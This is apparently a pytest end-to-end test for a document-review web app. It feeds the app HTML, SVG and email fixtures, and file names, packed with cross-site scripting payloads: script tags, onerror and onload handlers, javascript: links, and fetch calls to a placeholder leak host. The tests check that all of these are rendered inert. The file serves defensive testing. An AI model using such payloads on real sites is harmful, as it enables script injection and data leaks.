"""Documents made to attack who reads them: script, links that leak, names that are mark-up. They are words, no more."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from onrecord.config import Options
from onrecord.pipeline import gather, read_case
from onrecord.store.db import init_case, open_store
from review.e2e.conftest import Served, running

LEAK = "http://leak.example"
HTML = f"""<!doctype html><html><head><title>&lt;img src=x onerror=alert(1)&gt; Weir</title>
<meta http-equiv="refresh" content="0;url={LEAK}/refresh"><link rel="stylesheet" href="{LEAK}/a.css">
<base href="{LEAK}/"></head><body onload="fetch('{LEAK}/body')"><script>fetch('{LEAK}/script')</script>
<img src="{LEAK}/pixel.gif" onerror="fetch('{LEAK}/img')"><iframe src="{LEAK}/frame"></iframe>
<svg onload="fetch('{LEAK}/svg')"><script>alert(2)</script></svg><article><h1>The weir</h1>
<p>Mayor Ana Orsel said on Monday that &lt;script&gt;fetch('{LEAK}/quoted')&lt;/script&gt; the weir was safe and that
the village could sleep. &lt;img src={LEAK}/p.png onerror=alert(3)&gt;</p>
<p>&ldquo;&lt;/textarea&gt;&lt;script&gt;alert(4)&lt;/script&gt; We will pay for it,&rdquo; Ro Amand told reporters in the town hall.
She asked the council to open the sluice by Friday, &lt;a href="javascript:alert(5)"&gt;here&lt;/a&gt;.</p>
<p><a href="javascript:fetch('{LEAK}/link')">More on this</a></p></article></body></html>"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('{LEAK}/root')"><script>fetch('{LEAK}/in')</script></svg>"""
MAIL = f"""From: "<script>alert(6)</script>" <a@weir.example>\r
To: desk@dale.example\r
Subject: <img src={LEAK}/subject onerror=alert(7)>\r
Content-Type: text/html; charset=utf-8\r
\r
<html><body><p>The mayor said on Tuesday that the sluice <b>was mended</b>.</p><img src="{LEAK}/mail.gif"></body></html>\r
"""
NAMES = {
    "<img src=x onerror=alert(8)>.html": HTML,
    "\"><svg onload=alert(9)>.svg": SVG,
    "javascript:alert(10).eml": MAIL,
}  # fmt: skip


@pytest.fixture
def hostile(browser: Any, tmp_path: Path) -> Iterator[Served]:
    """A desk over a case of such documents."""
    given = tmp_path / "given"
    given.mkdir()
    for name, content in NAMES.items():
        (given / name).write_text(content, encoding="utf-8")
    init_case(tmp_path / "case", Options(reader="rules", workers=1, title="<script>alert(11)</script>"))
    with open_store(tmp_path / "case", writes=True) as store:
        gather(store, [given])
        read_case(store)
    yield from running(tmp_path / "case")


def test_hostile_documents_do_nothing(browser: Any, hostile: Served) -> None:
    page = hostile.sit(browser)
    alarms: list[str] = []
    page.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
    page.goto(f"{hostile.origin}/documents")
    links = [a.get_attribute("href") for a in page.locator("#list a").all()]
    assert len(links) >= 2
    tabs = [a.get_attribute("href") for a in page.locator(".bar nav a").all()]
    edits = []
    for link in links:
        page.goto(f"{hostile.origin}{link}")
        edits += [a.get_attribute("href") for a in page.locator("a.edit").all()]
        for run in page.locator("#text .k-content").all():
            run.click()
        assert page.url.startswith(hostile.origin)
    for url in (*tabs, *edits, "/queue?kind=demand", "/history", "/nowhere?<script>alert(12)</script>"):
        page.goto(f"{hostile.origin}{url}")
        for anchor in page.locator("a[href]").all():
            href = str(anchor.get_attribute("href"))
            assert href.startswith(("/", "#")), f"a live link out of the desk: {href}"
        assert page.locator("main img, main iframe, main object, main embed").count() == 0
    assert alarms == []
    assert "<script>alert(11)</script>" in page.locator(".bar .case").inner_text(), (
        "it is shown as the words that it is"
    )


def test_an_original_is_saved_and_not_opened(browser: Any, hostile: Served) -> None:
    page = hostile.sit(browser)
    page.goto(f"{hostile.origin}/documents")
    page.locator("#list a").first.click()
    with page.expect_download() as saved:
        page.get_by_role("link", name="save the original").click()
    assert saved.value.suggested_filename.endswith(".original")
    assert Path(saved.value.path()).read_text(encoding="utf-8") in NAMES.values()
